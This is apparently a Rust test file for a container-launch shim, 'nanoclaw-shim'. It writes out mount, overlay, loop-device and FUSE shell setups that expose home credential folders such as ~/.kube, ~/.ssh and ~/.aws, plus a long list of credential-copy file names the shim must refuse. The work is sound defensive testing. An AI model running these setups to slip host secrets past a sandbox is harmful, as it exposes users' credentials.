            // A kernel overlay in `cluster` whose lower layer is such a view outside it (the
            // thirty-fifth pass's look).
            (
                Some(&kube),
                format!(
                    "mkdir -p '{t}/fv/up' '{t}/fv/work' '{t}/fv/merged' '{o}/ov/up' '{o}/ov/work' '{o}/ov/merged' && fuse-overlayfs -o 'lowerdir={k},upperdir={t}/fv/up,workdir={t}/fv/work' '{t}/fv/merged' && mount -t overlay overlay -o 'lowerdir={t}/fv/merged,upperdir={o}/ov/up,workdir={o}/ov/work' '{o}/ov/merged'"
                ),
                "deny.sensitive-mount",
                "/k/ov/merged/config",
            ),
        ]
    });
    let setups = [
        // `~/.kube` bound at `cluster`.
        (
            Some(&kube),
            format!("mount --bind '{k}' '{o}'"),
            "deny.credentials",
            "/k/config",
        ),
        // `cluster` the lower layer of an overlay at `~/.kube`.
        (
            Some(&other),
            format!("mount -t overlay overlay -o 'lowerdir={o},upperdir={t}/upper,workdir={t}/work' '{k}'"),
            "deny.credentials",
            "/k/config",
        ),
        // `~/.kube` a bind of `cluster/backing` (an impermanence or dotfiles layout): a mount
        // of `cluster` holds it (the thirty-third pass's look read it so).
        (
            Some(&backing),
            format!("mount --bind '{o}/backing' '{k}'"),
            "deny.credentials",
            "/k/backing/config",
        ),
        // `~/.kube` bound beneath `cluster`: podman binds `cluster` with what is mounted
        // beneath it (the thirty-third pass's look).
        (
            Some(&kube),
            format!("mount --bind '{k}' '{o}/sub'"),
            "deny.credentials",
            "/k/sub/config",
        ),
        // A file system of its own mounted whole at a sensitive point of the home, bound at
        // `cluster`: its other name is that point (the thirty-second pass's last looks read
        // root's `.config/gh` so, with `/root` a file system of its own, when such names were
        // passed over; only a second mount of the root file system makes them noise).
        (
            None,
            format!(
                "mount -t tmpfs tmpfs '{n}' && echo 'token: {MARKER}' > '{n}/config' && mount --bind '{n}' '{o}'"
            ),
            "deny.sensitive-mount",
            "/k/config",
        ),
    ];
    // An image a FUSE file system reads (`fuse2fs`), moved to `cluster` once mounted: the
    // table still names where it was (the thirty-fifth pass's look). `.ci/run` installs
    // fuse2fs; elsewhere said and left out.
    let fuse2fs = Command::new("fuse2fs")
        .arg("-V")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stderr).contains("fuse2fs"));
    if !fuse2fs {
        eprintln!("an image mounted by fuse2fs and moved: not tried, this host has no fuse2fs");
    }
    let moved = fuse2fs.then(|| {
        [
            (
                None,
                format!(
                    "mkdir -p '{t}/f2' && truncate -s 2M '{t}/f2/vault.img' && mke2fs -q -F -t ext2 -d '{s}' '{t}/f2/vault.img' && fuse2fs -o ro,fakeroot '{t}/f2/vault.img' '{k}' >/dev/null && mv '{t}/f2/vault.img' '{o}/moved.img'"
                ),
                "deny.sensitive-mount",
                "/k/moved.img",
            ),
            // ... and one fuse2fs reads through a loop device (the fifth look's): its number
            // is made up, so the device is the source's.
            (
                None,
                format!(
                    "truncate -s 2M '{o}/f2dev.img' && l=$(losetup -f --show '{o}/f2dev.img') && mke2fs -q -F -t ext2 -d '{s}' \"$l\" && fuse2fs -o ro,fakeroot \"$l\" '{k}' >/dev/null"
                ),
                "deny.credentials",
                "/k/f2dev.img",
            ),
        ]
    });
    let more = (images.into_iter().flatten())
        .chain(moved.into_iter().flatten())
        .chain(btrfs_images.into_iter().flatten())
        .chain(views.into_iter().flatten());
    for (config_in, mount, rule, read) in setups.into_iter().chain(more) {
        if let Some(dir) = config_in {
            std::fs::write(dir.join("config"), format!("token: {MARKER}\n")).unwrap();
            std::fs::set_permissions(dir.join("config"), std::fs::Permissions::from_mode(0o644)).unwrap();
        }
        let through = |program: &Path| -> Output {
            let script = format!("{mount} && exec \"$@\"");
            let mut args: Vec<String> = ["-m", "--propagation", "private", "sh", "-c", &script, "sh"]
                .iter()
                .map(|s| s.to_string())
                .collect();
            args.push(program.display().to_string());
            args.extend(words(
                &w,
                &[
                    "run",
                    "--rm",
                    "-v",
                    &format!("{o}:/k:ro"),
                    "--entrypoint",
                    "/bin/cat",
                    IMAGE,
                    read,
                ],
            ));
            w.run(Path::new("/usr/bin/unshare"), &args)
        };
        let c = through(&w.podman);
        assert!(
            String::from_utf8_lossy(&c.stdout).contains(MARKER),
            "{mount}: control did not read it: {}",
            text(&c)
        );
        let o = through(&w.dir.path().join("bin/docker"));
        refused(&o, rule);
        let why = String::from_utf8_lossy(&o.stderr);
        assert!(
            why.contains("through the mount table") || why.contains("any folder may hold its file"),
            "{mount}: {}",
            text(&o)
        );
        if let Some(dir) = config_in {
            std::fs::remove_file(dir.join("config")).unwrap();
        }
    }
}

/// Copies of a credential under another name: an editor's backup beside a `.env` that
/// nanoclaw's v1 main group shadows with `/dev/null`, a key named for its use or by its
/// ending, and snapshots of a whole file system (the thirty-fourth pass's look read each
/// through plain podman and through the shim before it knew them).
#[test]
fn a_credential_s_copy_is_never_read() {
    let Some(podman) = podman_or_skip() else {
        return;
    };
    let w = World::new(podman);
    for (i, (file, mount, read)) in [
        // nanoclaw v1's main group: the project read-only, its `.env` shadowed.
        (".env~", "", "/x/.env~"),
        ("#.env#", "", "/x/#.env#"),
        (".env (copy)", "", "/x/.env (copy)"),
        ("id_ed25519_github", "", "/x/id_ed25519_github"),
        ("server.key", "", "/x/server.key"),
        ("terraform.tfstate", "", "/x/terraform.tfstate"),
        // A browser's second download, a compressed key, Explorer's Dutch copy (the
        // thirty-fifth pass's look).
        ("privkey(1).pem", "", "/x/privkey(1).pem"),
        ("server.key.gz", "", "/x/server.key.gz"),
        ("logins - kopie.json", "", "/x/logins - kopie.json"),
        ("Copy of .env", "", "/x/Copy of .env"),
        ("server.key.tar.gz", "", "/x/server.key.tar.gz"),
        // rsync's file left where a transfer stopped, OneDrive's conflict (the last pass's
        // looks).
        (".id_rsa.Xa81Kz", "", "/x/.id_rsa.Xa81Kz"),
        (
            "logins-DESKTOP-AB12CD3.json",
            "",
            "/x/logins-DESKTOP-AB12CD3.json",
        ),
        // An SSH key named for its use, Wrangler's secrets, ownCloud's conflict, Syncthing's
        // unfinished transfer, iCloud's duplicate (this pass's look read each).
        ("deploy_key", "", "/x/deploy_key"),
        (".dev.vars", "", "/x/.dev.vars"),
        (
            ".env_conflict-20241207-123456",
            "",
            "/x/.env_conflict-20241207-123456",
        ),
        (".syncthing.id_ed25519.tmp", "", "/x/.syncthing.id_ed25519.tmp"),
        ("key4 2.db", "", "/x/key4 2.db"),
        // AWS's access keys and Terraform's variables as JSON, as downloaded and written (the
        // second look's).
        ("alice_accessKeys.csv", "", "/x/alice_accessKeys.csv"),
        ("prod.auto.tfvars.json", "", "/x/prod.auto.tfvars.json"),
        // A key named for its deployment, an API key and a kubeconfig by their downloads'
        // names (the third look's).
        ("prod_deploy_key", "", "/x/prod_deploy_key"),
        ("openai_api_key.txt", "", "/x/openai_api_key.txt"),
        ("admin.kubeconfig", "", "/x/admin.kubeconfig"),
        // Firebase's admin key as downloaded: a name only an infix names (the thirty-seventh
        // pass's).
        (
            "myapp-5f2e1-firebase-adminsdk-fbsvc-0a1b2c3d4e.json",
            "",
            "/x/myapp-5f2e1-firebase-adminsdk-fbsvc-0a1b2c3d4e.json",
        ),
        // A snapshot of the root file system (snapper's layout), and Timeshift's, mounted
        // below their own folders: a home's token two and more levels down.
        (
            ".snapshots/2/snapshot/home/u/.config/gh/hosts.yml",
            ".snapshots/2/snapshot",
            "/x/home/u/.config/gh/hosts.yml",
        ),
        (
            "timeshift/snapshots/2025-12-01/localhost/root/.bashrc",
            "timeshift/snapshots/2025-12-01/localhost",
            "/x/root/.bashrc",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let project = w.dir.path().join(format!("project{i}"));
        let copy = project.join(file);
        std::fs::create_dir_all(copy.parent().unwrap()).unwrap();
        std::fs::write(&copy, format!("TOKEN={MARKER}\n")).unwrap();
        std::fs::write(project.join(".env"), format!("TOKEN={MARKER}\n")).unwrap();
        let source = project.join(mount).display().to_string();
        let mut args = vec![
            "run".to_string(),
            "--rm".into(),
            "-v".into(),
            format!("{source}:/x:ro"),
        ];
        if mount.is_empty() {
            args.extend(["-v".into(), "/dev/null:/x/.env:ro".into()]);
        }
        args.extend(
            ["--entrypoint", "/bin/cat", IMAGE, read]
                .iter()
                .map(|s| s.to_string()),
        );
        leaked_without_refused_with(&w, &args, "deny.credentials");
    }
}

/// What a shell script says (its output, then its errors), run as root in a mount namespace of
/// its own, from `/`: its mounts and loop devices' mounts go with it.
fn in_mounts_of_its_own(script: &str) -> String {
    let o = Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c", script])
        .current_dir("/")
        .output()
        .unwrap();
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// A disk image mounted from a folder only root may search refuses nothing to a caller who
/// cannot look there: no source of theirs reads it (the thirty-fifth pass's look: every rootless
/// session was refused while root had such an image mounted, its name read as gone). But an
/// image the caller can read, mounted through a device node in such a folder, is still judged
/// by the device the table names (the fourth look read a key so). Run as `nobody`, in a mount
/// namespace of the test's own.
#[test]
fn an_image_the_caller_cannot_look_at_refuses_nothing_else() {
    use std::os::unix::fs::MetadataExt;
    if std::fs::metadata("/proc/self").unwrap().uid() != 0 || !Path::new("/dev/loop-control").exists() {
        eprintln!("skipped: mounting a disk image needs root and loop devices");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let t = dir.path();
    std::fs::set_permissions(t, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (private, project, point) = (t.join("private"), t.join("project"), t.join("point"));
    for (d, mode) in [(&private, 0o700), (&project, 0o755), (&point, 0o755)] {
        std::fs::create_dir(d).unwrap();
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    std::fs::write(project.join("README"), "hello\n").unwrap();
    // The binary and the policy where `nobody` reaches them (the build folder may not be).
    let exe = t.join("nanoclaw-shim");
    std::fs::copy(*crate::support::BIN, &exe).unwrap();
    std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
    let policy = t.join("policy.toml");
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("policy/default.toml"),
        &policy,
    )
    .unwrap();
    std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).unwrap();
    let (p, r, m) = (
        private.display().to_string(),
        project.display().to_string(),
        point.display().to_string(),
    );
    let (img, home) = (t.join("img"), t.join("home"));
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir(&img).unwrap();
    std::fs::set_permissions(&img, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (i, h) = (img.display().to_string(), home.display().to_string());
    let explain = |source: &str| {
        format!(
            "runuser -u nobody -- env -i HOME='{h}' PATH=/usr/bin:/bin NANOCLAW_SHIM_POLICY='{}' '{}' explain run --rm -v '{source}:/x:ro' img",
            policy.display(),
            exe.display()
        )
    };
    // And a btrfs whose node is gone since it was mounted (as `/dev/root` names none on a host
    // booted without an initramfs): its devices are asked by its id, so an unrelated source
    // passes and the folder holding its image does not (the fifth look had every source
    // refused). A second such btrfs, mounted only in a folder the caller may not open, cannot
    // be asked: it reads some of the devices every btrfs reads, and still refuses nothing
    // else (the last look had every source refused).
    let btrfs = Command::new("mkfs.btrfs")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    let bt = t.join("bt");
    std::fs::create_dir(&bt).unwrap();
    std::fs::set_permissions(&bt, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    let b = bt.display().to_string();
    let gone = match btrfs {
        true => format!(
            "truncate -s 128M '{b}/bt.img' && chmod 644 '{b}/bt.img' && c=$(losetup -f --show '{b}/bt.img') && mkfs.btrfs -q -f \"$c\" >/dev/null && mknod '{t}/bnode' b $((0x$(stat -c %t \"$c\"))) $((0x$(stat -c %T \"$c\"))) && mount -o ro '{t}/bnode' '{h}/.aws' && rm '{t}/bnode' && truncate -s 128M '{b}/bt2.img' && d=$(losetup -f --show '{b}/bt2.img') && mkfs.btrfs -q -f \"$d\" >/dev/null && mknod '{t}/bnode2' b $((0x$(stat -c %t \"$d\"))) $((0x$(stat -c %T \"$d\"))) && mkdir '{p}/bt2' && mount -o ro '{t}/bnode2' '{p}/bt2' && rm '{t}/bnode2' && {} ; echo ==SPLIT==; {}; umount '{h}/.aws' '{p}/bt2'; losetup -d \"$c\" \"$d\"",
            explain(&r),
            explain(&b),
            t = t.display()
        ),
        false => {
            eprintln!("a btrfs whose node is gone: not tried, this host has no mkfs.btrfs");
            String::new()
        }
    };
    let script = format!(
        "truncate -s 1M '{p}/disk.img' && mke2fs -q -F -t ext2 '{p}/disk.img' && mount -o loop,ro '{p}/disk.img' '{m}' && truncate -s 1M '{i}/keys.img' && chmod 644 '{i}/keys.img' && a=$(losetup -f --show '{i}/keys.img') && mke2fs -q -F -t ext2 \"$a\" && mknod '{p}/node' b $((0x$(stat -c %t \"$a\"))) $((0x$(stat -c %T \"$a\"))) && mount -o ro '{p}/node' '{h}/.ssh' && {} ; echo ==SPLIT==; {}; umount '{h}/.ssh' '{m}'; losetup -d \"$a\"; echo ==SPLIT==; {gone}",
        explain(&r),
        explain(&i)
    );
    let out = in_mounts_of_its_own(&script);
    let parts: Vec<&str> = out.split("==SPLIT==").collect();
    let (unseen, seen) = (parts[0], parts.get(1).copied().unwrap_or_default());
    assert!(unseen.contains("decision: rewrite"), "{out}");
    assert!(!unseen.contains("deny.sensitive-mount"), "{out}");
    assert!(seen.contains("deny.credentials"), "{out}");
    if btrfs {
        let (other, holding) = (
            parts.get(2).copied().unwrap_or_default(),
            parts.get(3).copied().unwrap_or_default(),
        );
        assert!(other.contains("decision: rewrite"), "{out}");
        assert!(holding.contains("deny.credentials"), "{out}");
    }
}

/// A disk image on a share: judged where it really lies, and a share that stops answering
/// keeps no call waiting. A loop device's file there is judged by the name the kernel gives it,
/// never looked up (the thirty-fifth pass's last look hung every call, root and rootless, with
/// an ISO loop-mounted from a share whose program had stopped). The file a FUSE file system
/// reads, named through a link on the share, is followed to where it lies (the thirty-sixth
/// pass's look read a key judged by the link's name), on a thread given a deadline: a share
/// that does not answer costs that wait, then refuses every source, since where the file lies
/// is unknown. The share here is `fuse2fs`, stopped with `SIGSTOP`; in a mount namespace of
/// the test's own.
#[test]
fn a_disk_image_on_a_share_is_judged_and_keeps_no_call_waiting() {
    use std::os::unix::fs::MetadataExt;
    let fuse2fs = Command::new("fuse2fs")
        .arg("-V")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stderr).contains("fuse2fs"));
    if std::fs::metadata("/proc/self").unwrap().uid() != 0
        || !Path::new("/dev/loop-control").exists()
        || !Path::new("/dev/fuse").exists()
        || !fuse2fs
    {
        eprintln!("skipped: a disk image on a FUSE share needs root, loop devices and fuse2fs");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let t = dir.path();
    let (home, project, data, local) = (t.join("home"), t.join("project"), t.join("data"), t.join("local"));
    let (decoy, local2) = (t.join("decoy"), t.join("local2"));
    for d in [
        t.join("share2"),
        t.join("m2"),
        decoy.clone(),
        local2.clone(),
        home.join(".ssh"),
        home.join(".kube"),
        home.join(".gnupg"),
        project.clone(),
        data.join("share"),
        local.clone(),
    ] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(project.join("README"), "hello\n").unwrap();
    let policy = t.join("policy.toml");
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("policy/default.toml"),
        &policy,
    )
    .unwrap();
    let (h, s, l) = (
        home.display().to_string(),
        data.join("share").display().to_string(),
        local.display().to_string(),
    );
    let explain = |source: &Path| {
        format!(
            "timeout 20 env -i HOME='{h}' PATH=/usr/bin:/bin NANOCLAW_SHIM_POLICY='{}' '{}' explain run --rm -v '{}:/x:ro' img; echo \"rc=$?\"; echo ==SPLIT==;",
            policy.display(),
            *crate::support::BIN,
            source.display()
        )
    };
    // ... and its output read to its end, as nanoclaw reads `docker`'s: nothing the shim leaves
    // asking a share may hold it open.
    let explain_to_the_end = |source: &Path| {
        format!(
            "timeout 20 sh -c 'o=$(env -i HOME=\"{h}\" PATH=/usr/bin:/bin NANOCLAW_SHIM_POLICY=\"{}\" \"{}\" explain run --rm -v \"{}:/x:ro\" img 2>&1); r=$?; echo \"$o\"; exit $r'; echo \"rc=$?\"; echo ==SPLIT==;",
            policy.display(),
            *crate::support::BIN,
            source.display()
        )
    };
    // The share; an image on it loop-mounted at `~/.ssh`; an image in `local`, named through a
    // link on the share, that fuse2fs reads at `~/.kube`. Then: the share answering; stopped;
    // stopped without the fuse2fs mount. It is let go before anything is unmounted.
    let script = format!(
        "truncate -s 16M '{t}/share.img' && mke2fs -q -F -t ext2 '{t}/share.img' && {{ fuse2fs -f -o fakeroot '{t}/share.img' '{s}' >/dev/null 2>&1 & p=$!; }} && for i in $(seq 100); do mountpoint -q '{s}' && break; sleep 0.1; done && truncate -s 2M '{s}/disk.iso' '{l}/vault.img' '{l2}/vault2.img' '{d}/vault2.img' && mke2fs -q -F -t ext2 '{s}/disk.iso' && mke2fs -q -F -t ext2 '{l}/vault.img' && mke2fs -q -F -t ext2 '{l2}/vault2.img' && ln -s '{l}/vault.img' '{s}/vault.img' && mount -o loop,ro '{s}/disk.iso' '{h}/.ssh' && fuse2fs -o ro,fakeroot '{s}/vault.img' '{h}/.kube' >/dev/null && sync && echo ==SPLIT== && {local_now} \
         {{ unshare -m --propagation private sh -c \"mount --bind '{l2}' '{d}' && losetup -f --show '{d}/vault2.img' > '{t}/loopdev' && exec sleep 60\" & b=$!; }}; for i in $(seq 100); do [ -s '{t}/loopdev' ] && break; sleep 0.1; done; mount -o ro $(cat '{t}/loopdev') '{h}/.gnupg' && {local_there} umount '{h}/.gnupg'; kill $b; losetup -d $(cat '{t}/loopdev'); \
         if command -v strace >/dev/null; then {{ strace -f -qq -o /dev/null -p $p -e trace=writev -e inject=writev:delay_enter=30000000 & st=$!; }}; sleep 1; {project_held} kill $st; wait $st; else echo no-strace; echo ==SPLIT==; fi; \
         kill -STOP $p; {project_stopped} kill -CONT $p; umount '{h}/.kube'; mkdir -p '{t}/sy/p/d' '{t}/m3' && truncate -s 2M '{t}/sy/p/d/disk.img' && mke2fs -q -F -t ext2 '{t}/sy/p/d/disk.img' && mount -o loop,ro '{t}/sy/p/d/disk.img' '{t}/m3' && mount -t tmpfs tmpfs '{t}/sy/p' && ln -s '{s}' '{t}/sy/p/d'; kill -STOP $p; {project_after} {data_after} kill -CONT $p; umount '{t}/m3' '{t}/sy/p'; umount '{h}/.ssh' '{s}'; \
         truncate -s 16M '{t}/share2.img' && mke2fs -q -F -t ext2 '{t}/share2.img' && {{ fuse2fs -f -o fakeroot '{t}/share2.img' '{s2}' >/dev/null 2>&1 & q=$!; }} && for i in $(seq 100); do mountpoint -q '{s2}' && break; sleep 0.1; done && truncate -s 2M '{s2}/disk.img' && mke2fs -q -F -t ext2 '{s2}/disk.img' && mount -o loop,ro '{s2}/disk.img' '{t}/m2' && umount -l '{s2}' && sleep 2 && kill -STOP $q && {project_lazy} kill -CONT $q; umount '{t}/m2'",
        t = t.display(),
        d = decoy.display(),
        l2 = local2.display(),
        local_now = explain(&local),
        local_there = explain(&local2),
        project_held = explain_to_the_end(&project),
        project_lazy = explain(&project),
        s2 = t.join("share2").display(),
        project_stopped = explain(&project),
        project_after = explain(&project),
        data_after = explain(&data),
    );
    let out = in_mounts_of_its_own(&script);
    let parts: Vec<&str> = out.split("==SPLIT==").collect();
    let part = |i: usize| parts.get(i).copied().unwrap_or_default();
    // Whether part `i` says every one of `words`.
    let says = |i: usize, words: &[&str]| words.iter().all(|w| part(i).contains(w));
    // The share answering: the link is followed, and the folder the image lies in names `~/.kube`.
    assert!(says(1, &["deny.credentials", "rc=125"]), "{out}");
    // A loop device set up in another mount namespace, where the folder holding the image is
    // bound over a decoy's: its file's name here names the decoy (the thirty-sixth pass's look
    // read the image's key, judged by the name). Root may ask the loop device which file it
    // reads: every source is refused while it is mounted.
    assert!(
        says(2, &["deny.sensitive-mount", "names another file here", "rc=125"]),
        "{out}"
    );
    // The share's program has read the request and holds its answer (as sshfs does when its
    // server is gone: `strace` delays its reply 30 s): the call waits its deadline, then
    // refuses, and ends, its output too (the same look's: a thread asking kept the call from
    // ending until the reply; `timeout` then says 124). Said and left out without strace.
    if part(3).contains("no-strace") {
        eprintln!("a share that holds its answer: not tried, this host has no strace");
    } else {
        assert!(says(3, &["did not answer", "rc=125"]), "{out}");
    }
    // Stopped: the call waits its deadline, then refuses (not killed by `timeout`: rc 124).
    assert!(
        says(4, &["deny.sensitive-mount", "did not answer", "rc=125"]),
        "{out}"
    );
    // Stopped, with only the loop-mounted ISO on it and a loop device whose file's name now
    // leads onto it through a link (its folder covered since: the same pass's last look hung
    // every call so): an unrelated folder passes, and the folder holding the share holds the
    // ISO, judged by its name (`~/.ssh`).
    assert!(says(5, &["decision: rewrite", "rc=0"]), "{out}");
    assert!(says(6, &["deny.credentials", "rc=125"]), "{out}");
    // A loop device's share unmounted lazily, then stopped (a NAS that went away): the table
    // no longer names the share, and the kernel names the file from the share's root. Its name
    // names nothing here, so every source is refused, and the loop device is not asked which
    // file it reads, which would wait on the share (the same pass's look hung every call so).
    assert!(says(7, &["names no file", "rc=125"]), "{out}");
}
